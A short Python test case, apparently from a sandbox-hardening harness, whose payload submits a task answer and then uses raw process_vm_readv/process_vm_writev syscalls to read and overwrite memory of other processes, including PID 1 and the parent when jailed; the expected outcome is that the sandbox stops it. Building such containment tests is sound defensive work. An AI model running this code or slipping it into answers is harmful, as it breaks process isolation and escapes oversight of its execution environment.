from ..attack import STOPPED, InCells, Shown

ATTACK = InCells(
    "Reads and writes other processes' memory by process_vm_readv and process_vm_writev.",
    {
        "number-answer": """
answer = 24
import ctypes, os
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
mine = ctypes.create_string_buffer(b"forged")
for pid in [*others(), *([1, os.getppid()] if jailed() else [])]:
    here = Span(ctypes.addressof(mine), 6)
    there = Span(AIM["decoy_address"] if pid == AIM["decoy"] else ctypes.addressof(mine), 6)
    for number in (311, 310):
        if syscall(number, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            gained("memory of process", pid)
"""
    },
    shown=Shown.OUTSIDE,
    ends=STOPPED,
)
